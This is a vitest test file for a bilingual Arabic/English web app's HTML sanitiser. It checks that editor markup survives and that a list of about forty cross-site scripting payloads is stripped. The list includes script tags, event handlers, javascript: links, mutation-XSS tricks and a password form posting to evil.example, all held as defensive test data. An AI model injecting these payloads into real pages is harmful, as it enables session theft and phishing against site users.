import { expect, test } from 'vitest'
import { bilingual, columnsOf, rows, text } from '../kernel/kernel.ts'
import { cleanValue, richTextOf } from '../server/resources/richText.ts'

const file = '0198c0de-0000-7000-8000-0000000000aa'
const address = `/api/Attachment/GetByte/${file}`

test('what an editor writes stays as it is', () => {
  for (const kept of [
    '<h2 dir="rtl">عنوان</h2><p>نص <strong>مهم</strong> و<em>مائل</em> و<u>مسطّر</u> و<s>محذوف</s><br />سطر</p>',
    '<ul><li>أول</li></ul><ol><li>ثانٍ</li></ol><blockquote dir="rtl"><p dir="auto">اقتباس</p></blockquote>',
    '<table><thead><tr><th scope="col" colspan="2">السنة</th></tr></thead><tbody><tr><td rowspan="2">2026</td><td>3</td></tr></tbody></table>',
    `<figure><img src="${address}" alt="الحديقة" /><figcaption>شرح</figcaption></figure>`,
    `<figure><img src="${address}" alt="الحديقة" width="640" height="360" /></figure>`,
    '<p><a href="https://example.org/a?b=1&amp;c=2" hreflang="en" target="_blank" rel="noopener noreferrer">رابط</a></p>',
    '<p><a href="mailto:a@example.org">بريد</a> <a href="tel:+97022401455">هاتف</a> <a href="/news">الأخبار</a></p>',
    '<p>3 &lt; 5 &amp; 7 &gt; 2</p>',
    '<ol dir="rtl" start="3" type="a"><li dir="ltr"><p dir="rtl">بند</p></li></ol>',
    '<table dir="rtl"><thead><tr><th scope="col"><p dir="rtl">أ</p></th></tr></thead><tbody><tr><th scope="row">ب</th></tr></tbody></table>',
  ])
    expect(richTextOf(kept)).toBe(kept)
})

// What has been used against rich texts: scripts, handlers, addresses that run, and markup that a browser reads in another way than a filter.
const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  `<img src="${address}" onload="alert(1)">`,
  '<img src="javascript:alert(1)">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  `<img src="/api/Attachment/GetByte/../../x">`,
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https://example.org" onclick="alert(1)">x</a>',
  '<p style="background:url(javascript:alert(1))" class="x" id="y">x</p>',
  '<p dir="rtl" onmouseover="alert(1)">x</p>',
  '<form action="https://evil.example"><input name="password"><button>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><link rel="stylesheet" href="x">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><script>alert(1)</script>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p>x</p><script>alert(1)',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<td colspan="1 onload=alert(1)">x</td>',
]

test('nothing of an attack survives', () => {
  for (const attack of attacks) {
    const clean = richTextOf(`<p>قبل</p>${attack}<p>بعد</p>`)
    const left = clean
      .replaceAll(/<\/?(?:p|a|td|table|tr)>|<p dir="rtl">|<a href="https:\/\/example\.org">/g, '')
      .replaceAll(`<img src="${address}" />`, '')
    expect(left, attack).not.toMatch(/[<>]/)
    expect(richTextOf(clean), 'cleaning again changes nothing').toBe(clean)
  }
})

test('a picture is kept by its plain address, and only a file of this site', () => {
  expect(richTextOf(`<img src="${address}?ticket=1.2.3&width=800" alt="x">`)).toBe(`<img src="${address}" alt="x" />`)
  expect(richTextOf(`<img src="${address.replace('00aa', '00AA')}">`)).toBe(`<img src="${address}" />`)
  expect(richTextOf('<p>نص</p><img src="https://example.org/a.png" alt="x">')).toBe('<p>نص</p>')
})

test('a link that opens a new window cannot reach back, and only such a link has a rel', () => {
  expect(richTextOf('<a href="https://example.org" target="_blank" rel="opener">x</a>')).toBe(
    '<a href="https://example.org" target="_blank" rel="noopener noreferrer">x</a>',
  )
  expect(richTextOf('<a href="https://example.org" target="top" rel="x">x</a>')).toBe('<a href="https://example.org">x</a>')
})

test('a list, a quotation and a table run as the whole text does; only what holds the words finds its own direction', () => {
  expect(richTextOf('<ul dir="auto"><li dir="auto"><p dir="auto">أول</p></li></ul><blockquote dir="auto"><p>ق</p></blockquote>')).toBe(
    '<ul><li><p dir="auto">أول</p></li></ul><blockquote><p>ق</p></blockquote>',
  )
  expect(richTextOf('<table dir="auto"><tbody><tr><td dir="auto">1</td></tr></tbody></table>')).toBe(
    '<table><tbody><tr><td>1</td></tr></tbody></table>',
  )
  expect(richTextOf('<h2 dir="auto">عنوان</h2><ol dir="ltr"><li>one</li></ol>')).toBe(
    '<h2 dir="auto">عنوان</h2><ol dir="ltr"><li>one</li></ol>',
  )
})

test('direction is one of three, a span is a number, a scope is one of four, and only a list of numbers begins somewhere', () => {
  expect(richTextOf('<ol start="-1" type="disc"><li>x</li></ol>')).toBe('<ol><li>x</li></ol>')
  expect(richTextOf('<ul start="2" type="a"><li>x</li></ul>')).toBe('<ul><li>x</li></ul>')
  expect(richTextOf('<p dir="up">x</p>')).toBe('<p>x</p>')
  expect(richTextOf('<table><tr><th scope="all">x</th><td colspan="0" rowspan="1000">y</td></tr></table>')).not.toMatch(/scope|span/)
})

test('a text in which nothing is to be seen is empty', () => {
  for (const nothing of ['', '<p></p>', '<p> &nbsp;</p><p><br></p>', '<script>x</script>', '<p>\u00A0</p>'])
    expect(richTextOf(nothing)).toBe('')
  expect(richTextOf(`<img src="${address}">`)).not.toBe('')
})

test('rich texts in child rows are cleaned, other values are left alone', () => {
  const fields = { steps: rows('خطوات', 'Steps', { name: text('الاسم', 'Name'), about: bilingual('شرح', 'About', 'richText') }) }
  const [column] = columnsOf(fields)
  const sent = [{ id: 'x', name: '<b>', aboutAr: '<p>نص</p><script>1</script>', aboutEn: null }, 'not a row']
  expect(cleanValue(column, sent)).toEqual([{ id: 'x', name: '<b>', aboutAr: '<p>نص</p>', aboutEn: null }, 'not a row'])
  expect(cleanValue(column, undefined)).toBe(undefined)
})

test('a text of the largest size is cleaned in a moment, however deep it is nested', () => {
  const deep = `${'<blockquote>'.repeat(4000)}x${'</blockquote>'.repeat(4000)}`
  expect(richTextOf(deep).length).toBeLessThan(5000)
})
